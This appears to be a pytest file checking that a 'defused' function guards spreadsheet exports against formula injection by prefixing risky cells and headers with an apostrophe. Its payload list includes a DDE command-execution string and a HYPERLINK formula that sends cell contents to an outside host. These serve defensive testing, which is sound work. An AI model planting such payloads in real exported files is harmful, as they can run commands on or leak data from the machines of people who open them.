"""No text in a file for people is a formula, and nothing else is changed."""

from __future__ import annotations

import io
from decimal import Decimal

import pandas as pd
import pytest
from hypothesis import given
from hypothesis import strategies as st

from models.spreadsheets import STARTS, defused

PAYLOADS = (
    "=1+1", "+1+1", "-1+1", "@SUM(A1)", "\t=1", "\r=1", "\n=1", " =1+1", "＝1+1", "=cmd|'/C calc'!A0",
    '=HYPERLINK("https://example.org?"&A1,"x")', "+86 138 0013 8000", "-", "=", "--5",
)  # fmt: skip


@pytest.mark.parametrize("payload", PAYLOADS)
def test_what_a_spreadsheet_would_run_gets_an_apostrophe(payload: str) -> None:
    frame = defused(pd.DataFrame({payload: pd.Series([payload, "x", None], dtype="str")}))
    assert frame.columns.tolist() == ["'" + payload]
    assert frame.iloc[:2, 0].tolist() == ["'" + payload, "x"]
    assert frame.iloc[2:, 0].isna().all()


@pytest.mark.parametrize("text", ["-5.00", "+5", "0", "x=1", "a@b.example", "1-2", "'=1", "", "王伟"])
def test_numbers_and_harmless_text_stay(text: str) -> None:
    assert defused(pd.DataFrame({"a": pd.Series([text], dtype="str")}))["a"].tolist() == [text]


def test_columns_of_numbers_and_days_stay_what_they_are() -> None:
    frame = pd.DataFrame({
        "n": [1, -2], "d": pd.to_datetime(["2026-01-01", "2026-01-02"]), "r": [Decimal("-0.1"), None],
        "b": [True, False],
    })  # fmt: skip
    pd.testing.assert_frame_equal(defused(frame), frame)
    assert list(defused(pd.DataFrame(columns=["a"])).columns) == ["a"]


@given(st.lists(st.one_of(st.none(), st.text(max_size=8)), max_size=20))
def test_no_text_starts_a_formula_and_every_text_can_be_told(texts: list[str | None]) -> None:
    frame = pd.DataFrame({"a": pd.Series(texts, dtype="str")})
    told = defused(frame)["a"]
    for before, after in zip(frame["a"].tolist(), told.tolist(), strict=True):
        if isinstance(before, str):
            assert after in {before, "'" + before}
            assert not after.startswith(tuple(STARTS)) or after.lstrip("+-").replace(".", "", 1).isdigit()
    assert defused(frame).to_csv(io.StringIO(), index=False) is None
